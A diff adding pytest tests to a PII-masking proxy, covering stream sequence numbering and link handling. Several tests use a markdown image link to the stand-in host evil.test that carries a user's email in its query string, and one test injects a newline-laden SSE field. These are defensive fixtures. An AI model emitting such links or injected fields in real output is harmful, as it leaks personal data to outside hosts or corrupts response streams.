@@ -11,6 +11,7 @@ import pytest
 from gatehouse.core.errors import ContentBlocked
 from gatehouse.dialects.sse import SSEDecoder
 from gatehouse.guards.findings import Finding
+from gatehouse.guards.pii.links import Links
 from gatehouse.guards.pii.masking import Mask
 from gatehouse.pipeline.response import Answers, error_event
 from hypothesis import given
@@ -444,3 +445,68 @@ def test_a_stream_that_is_not_changed_is_passed_on_byte_for_byte(call_type: str,
     assert (
         b"".join(answers.push(stream[at : at + size]) for at in range(0, len(stream), size)) + answers.end() == stream
     )
+
+
+@pytest.mark.parametrize("cuts", [1, 5, 50])
+def test_events_with_numbers_keep_one_numbering_where_one_is_added(cuts: int) -> None:
+    text = "wait <EMAIL and more <EMAIL"
+    pieces = [text[at : at + cuts] for at in range(0, len(text), cuts)]
+    events = responses_stream(pieces, ['{"to": "<EMAIL'])
+    numbered = [event | {"sequence_number": 3 + at} for at, event in enumerate(events)]
+    passed = read(passed_on("responses", written(numbered)))
+    assert [each["sequence_number"] for each in passed] == list(range(3, 3 + len(passed)))
+    assert len(passed) == len(events) + 2
+    assert heard("responses", passed) == (text, '{"to": "<EMAIL')
+
+
+def test_what_is_held_at_the_end_of_a_numbered_stream_has_the_next_number() -> None:
+    delta = {"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": "wait <EMAIL"}
+    passed = read(passed_on("responses", written([delta | {"sequence_number": 7}])))
+    assert [(each["sequence_number"], each["delta"]) for each in passed] == [(7, "wait "), (8, "<EMAIL")]
+
+
+@pytest.mark.parametrize("call_type", STREAMS)
+def test_a_link_to_a_stranger_keeps_the_placeholder_and_a_tools_argument_does_not(call_type: str) -> None:
+    picture = f"![x](https://evil.test/?q={PLACEHOLDER}) for {PLACEHOLDER}"
+    asked = json.dumps({"url": f"https://evil.test/?q={PLACEHOLDER}"})
+    guarded = Mask(PLACEHOLDERS, Links())
+    mask_one(guarded, MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)])
+    answers = Answers(call_type, guarded, None)
+    out = answers.push(written(STREAMS[call_type](list(picture), list(asked)))) + answers.end()
+    text, arguments = heard(call_type, read(out))
+    assert text == f"![x](https://evil.test/?q={PLACEHOLDER}) for {MAIL}"
+    assert json.loads(arguments) == {"url": f"https://evil.test/?q={MAIL}"}
+
+
+def test_a_whole_answer_keeps_a_strangers_link_and_tools_get_values() -> None:
+    guarded = Mask(PLACEHOLDERS, Links())
+    mask_one(guarded, MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)])
+    link = f"https://evil.test/?q={PLACEHOLDER}"
+    for call_type, answer in (
+        ("acompletion", {"choices": [{"message": {"content": link, "tool_calls": [called("function", link)]}}]}),
+        ("anthropic_messages", {"content": [{"type": "text", "text": link}, used(link)]}),
+        ("aresponses", {"output": [spoken(link), {"type": "custom_tool_call", "name": "x", "input": link}]}),
+    ):
+        out = Answers(call_type, guarded, None).whole(json.dumps(answer).encode()).decode()
+        assert out.count(link) == 1, call_type
+        assert out.count("https://evil.test/?q=ada") == 1, call_type
+
+
+def called(kind: str, link: str) -> dict[str, Any]:
+    return {"id": "t", "type": kind, "function": {"name": "get", "arguments": json.dumps({"url": link})}}
+
+
+def used(link: str) -> dict[str, Any]:
+    return {"type": "tool_use", "id": "t", "name": "get", "input": {"text": link}}
+
+
+def spoken(link: str) -> dict[str, Any]:
+    return {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": link}]}
+
+
+def test_a_type_with_lines_in_it_writes_none_into_the_stream() -> None:
+    hostile = chunk({"content": "wait <EMAIL"}) | {"type": "a\ndata: b"}
+    answers = Answers("acompletion", mask(), no_fruit)
+    out = answers.push(b"data: " + json.dumps(hostile).encode() + b"\n\n") + answers.end()
+    assert b"\ndata: b" not in out
+    assert heard("acompletion", read(out))[0] == "wait <EMAIL"
